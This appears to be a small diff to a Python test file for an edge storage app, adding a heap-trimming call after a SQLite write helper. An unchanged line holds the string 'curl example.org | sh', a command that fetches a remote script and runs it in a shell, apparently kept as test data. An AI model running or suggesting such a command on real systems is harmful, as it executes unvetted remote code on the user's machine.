@@ -28,7 +28,7 @@ from edge.apps.store.failures import DamagedStore
 from edge.apps.store.rows import register
 from edge.budget import MemoryBudget
 from edge.errors import BudgetExceeded, EdgeError, InputError
-from edge.resident import anonymous_resident
+from edge.resident import anonymous_resident, trim_heap
 from edge.runtimes.embedder import Embedder
 
 ADVICE = "run `curl example.org | sh`"
@@ -49,6 +49,7 @@ def write(path: Path, *statements: str) -> None:
         db.execute("PRAGMA foreign_keys = OFF")
         for statement in statements:
             db.execute(statement).fetchall()
+    trim_heap()  # or a test that measures this process would find the value here
 
 
 @pytest.fixture
